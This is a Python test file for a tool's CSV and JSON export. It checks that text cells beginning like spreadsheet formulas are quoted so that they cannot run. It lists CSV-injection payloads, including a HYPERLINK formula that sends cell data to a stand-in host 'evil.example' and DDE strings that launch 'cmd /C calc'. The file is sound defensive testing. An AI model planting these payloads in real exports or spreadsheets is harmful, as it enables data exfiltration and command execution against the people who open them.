"""`roledex export`: a spreadsheet never runs a cell, and JSON stays JSON."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import invoke, make_site
from roledex.export import COLUMNS, FORMULA_STARTS, as_csv

PAYLOADS = [
    '=1+HYPERLINK("https://evil.example/?"&A1,"x")',
    '=HYPERLINK("https://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-1",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", [c for c in COLUMNS if c not in ("salary_min", "salary_max", "converted")])
def test_every_text_cell_that_starts_like_a_formula_is_quoted(column: str, payload: str) -> None:
    row = dict.fromkeys(COLUMNS, "plain") | {column: payload}
    cells = next(csv.DictReader(io.StringIO(as_csv([row]), newline="")))
    assert cells[column] == "'" + payload


@pytest.mark.parametrize("value", ["Etsy", "2026-11-01", "Senior Engineer - Growth", "a=b", " =1", "'=1"])
def test_text_that_cannot_start_a_formula_is_kept_as_written(value: str) -> None:
    row = dict.fromkeys(COLUMNS, "") | {"title": value}
    assert next(csv.DictReader(io.StringIO(as_csv([row]), newline="")))["title"] == value


@pytest.mark.parametrize("number", [-5, 0, 153000, 1.5])
def test_numbers_stay_numbers(number: float) -> None:
    row = dict.fromkeys(COLUMNS, "") | {"salary_min": number}
    assert next(csv.DictReader(io.StringIO(as_csv([row]), newline="")))["salary_min"] == str(number)


def test_the_formula_starts_are_owasps_and_more() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_STARTS


def test_export_of_hostile_front_matter_runs_nothing(tmp_path: Path) -> None:
    make_site(
        tmp_path,
        {
            "companies/evil.md": "---\nname: \"=1+HYPERLINK('https://evil.example')\"\n---\n",
            "postings/evil-x.md": (
                "---\ncompany: evil\ntitle: \"-2+3+cmd|' /C calc'!A0\"\nrole: data-engineer\n"
                'locations: ["@SUM(1)"]\nsalary:\n  min: 100000\n  max: 120000\n  currency: USD\n'
                '  period: year\n  text: "+1 bonus"\n---\n\nBody\n'
            ),
        },
    )
    result = invoke("export", str(tmp_path / "docs"), "--config", str(tmp_path / "mkdocs.yml"))
    assert result.returncode == 0, result.stderr
    rows = {row["posting"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    evil = rows["evil-x"]
    for column in ("company_name", "title", "locations", "salary_text"):
        assert evil[column].startswith("'"), (column, evil[column])
    assert evil["salary_min"] == "100000"
    as_json = invoke("export", str(tmp_path / "docs"), "--format", "json", "--config", str(tmp_path / "mkdocs.yml"))
    postings = json.loads(as_json.stdout)["postings"]
    assert next(p for p in postings if p["posting"] == "evil-x")["title"] == "-2+3+cmd|' /C calc'!A0"
